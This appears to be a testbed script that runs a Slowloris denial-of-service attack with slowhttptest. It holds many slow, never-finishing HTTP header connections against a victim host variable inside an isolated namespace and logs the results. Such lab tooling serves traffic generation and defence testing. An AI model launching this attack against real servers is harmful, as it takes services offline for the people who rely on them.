#!/usr/bin/env bash
# Slowloris (slowhttptest -H): TB_COUNT connections that send header lines slowly and never finish.
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
tb_run "$TB_NS" slowhttptest -H -c "$TB_COUNT" -r $(( TB_COUNT / 4 + 1 )) -i 5 -x 24 -p 5 -t GET \
  -u "http://$TB_VICTIM/" -l "$(( TB_SECONDS > 4 ? TB_SECONDS - 2 : TB_SECONDS ))" > "$TB_STATE/slowloris.log" 2>&1
